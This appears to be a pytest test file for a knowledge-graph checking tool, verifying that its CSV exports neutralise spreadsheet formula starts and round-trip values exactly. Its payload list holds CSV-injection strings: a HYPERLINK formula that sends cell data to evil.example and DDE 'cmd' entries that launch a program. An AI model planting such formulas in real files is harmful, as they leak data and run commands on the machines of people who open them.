"""CSV files kgcheck writes carry no live spreadsheet formula, and read back exactly."""

from __future__ import annotations

import csv
import itertools
from pathlib import Path

from typer.testing import CliRunner

from kgcheck.cli import app
from kgcheck.data.cells import neutralise, restore
from kgcheck.data.runfolder import LABEL_COLUMNS, read_labels, write_labels

runner = CliRunner()
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
# A formula starts with one of these: a spreadsheet shows an apostrophe-led cell as text.
LIVE = ("=", "+", "-", "@", "\t", "\r")


def test_every_formula_start_is_neutralised_and_plain_numbers_are_kept() -> None:
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    for kept in ("-12.5", "+3", "1e-5", "Paris", "'quoted", "", "a=b"):
        assert neutralise(kept) == kept
    assert neutralise(None) is None and neutralise(7) == 7


def test_restore_undoes_neutralise_for_every_short_string() -> None:
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "e", "x", " "]
    for size in range(5):
        for chars in itertools.product(alphabet, repeat=size):
            value = "".join(chars)
            written = neutralise(value)
            assert not written.startswith(LIVE) or written == value and _number(value)
            assert restore(written) == value, repr(value)


def _number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


KG = ("subject,predicate,object\n"
      + "".join(f'Town{i},note,"{p.replace(chr(34), chr(34) * 2)}"\n'
                for i, p in enumerate(PAYLOADS))
      + "Town9,altitude,-12.5\n")


def test_export_csv_cells_do_not_start_formulas(tmp_path: Path, scripted) -> None:
    kg = tmp_path / "kg.csv"
    kg.write_text(KG, newline="")
    out = tmp_path / "run"
    result = runner.invoke(app, ["run", "--triples", str(kg), "--model",
                                 scripted("cells", ["T"] * 10), "--concurrency", "1", "--out",
                                 str(out), "--no-progress"])
    assert result.exit_code == 0, result.output
    target = tmp_path / "exp.csv"
    assert runner.invoke(app, ["export", str(out), "--out", str(target)]).exit_code == 0
    with target.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    objects = {r["subject"]: r["object"] for r in rows}
    assert len(rows) == len(PAYLOADS) + 1
    for i, payload in enumerate(PAYLOADS):
        assert objects[f"Town{i}"] == "'" + payload.strip()  # the CSV reader strips values
    assert objects["Town9"] == "-12.5"
    assert not any(cell.startswith(LIVE) for r in rows for k, cell in r.items()
                   if k not in ("object", "object_name") or r["subject"] != "Town9")


def test_labels_csv_neutralises_notes_and_reads_them_back_exactly(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    # Every column filled (the columns a review does not use are empty strings).
    rows = [{**dict.fromkeys(LABEL_COLUMNS, ""), "fact_id": f"f{i}", "label": "F",
             "note": payload.strip(), "reviewer": "@ann",
             "reviewed_at": "2026-01-01T00:00:00Z", "design": "-srs"}
            for i, payload in enumerate(PAYLOADS)]
    write_labels(path, rows)
    with path.open(newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not any(c.startswith(LIVE) for c in cells)
    assert read_labels(path) == {r["fact_id"]: r for r in rows}


def test_sample_csv_for_annotators_neutralises_triple_values(tmp_path: Path) -> None:
    kg = tmp_path / "kg.csv"
    kg.write_text(KG, newline="")
    out = tmp_path / "sample.csv"
    result = runner.invoke(app, ["sample", "--n", "7", "--triples", str(kg), "--out", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 7
    assert not any(v.startswith(LIVE) for r in rows for v in r.values() if v != "-12.5")
    assert sorted(restore(r["object"]) for r in rows) == sorted(
        [p.strip() for p in PAYLOADS] + ["-12.5"])
